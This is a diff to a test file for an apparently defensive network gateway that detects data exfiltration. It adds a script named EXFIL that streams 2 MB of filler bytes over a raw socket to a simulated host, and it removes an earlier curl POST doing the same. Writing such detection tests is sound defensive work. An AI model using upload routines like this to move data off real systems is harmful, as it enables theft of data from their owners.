@@ -312,26 +312,31 @@ async def test_allowed_cidr_relays_both_ways(attach, simnet: SimNet) -> None:
     assert simnet.received("sink") - before == 3 * 1024 * 1024
 
 
+EXFIL = """
+import socket, sys, time
+body = b"q" * (2 * 1024 * 1024)
+s = socket.create_connection((sys.argv[1], 80), timeout=10)
+s.sendall(b"POST /upload HTTP/1.1\\r\\nHost: example.sim.test\\r\\n"
+          + f"Content-Length: {len(body)}\\r\\nConnection: close\\r\\n\\r\\n".encode())
+s.sendall(body)
+time.sleep(0.5)  # still connected while the gateway looks the uploader up
+print(s.recv(4096).decode().splitlines()[-1])
+"""
+
+
 async def test_upload_far_above_download_flagged(attach, simnet: SimNet) -> None:
     client = await attach(gateway_policy(EXAMPLE, exfil_min_bytes=1024 * 1024))
-    payload = "import sys; sys.stdout.buffer.write(b'q' * (2 * 1024 * 1024))"
-    result = await client.run(
-        "bash", "-c",
-        f"{client_python()} -c \"{payload}\" | curl -sS -m 20 -X POST --data-binary @- "
-        "http://example.sim.test/upload",
-    )
+    warm = await client.run("getent", "hosts", "example.sim.test")
+    assert simnet.ip("web") in warm.out
+    result = await client.python(EXFIL, simnet.ip("web"))
     assert "received 2097152 bytes" in result.out, result
     await client.settle()
     (signal,) = client.events(EventKind.NET_SIGNAL, signal="exfiltration")
-    # Raised while the upload was still going, by the process doing it.
+    # Raised while the upload was still going, naming the process doing it.
     assert signal.data["bytes_up"] >= 1024 * 1024 and signal.data["severity"] == "high"
     assert signal.data["dst"] == simnet.ip("web") and signal.pid is not None
     (end,) = client.events(EventKind.NET_CONNECT, phase="end")
-    assert end.data["bytes_up"] > 2 * 1024 * 1024
-
-
-def client_python() -> str:
-    return "/usr/bin/python3"
+    assert end.data["bytes_up"] > 2 * 1024 * 1024 and end.pid == signal.pid
 
 
 async def test_events_are_json_serialisable(attach, simnet: SimNet) -> None:
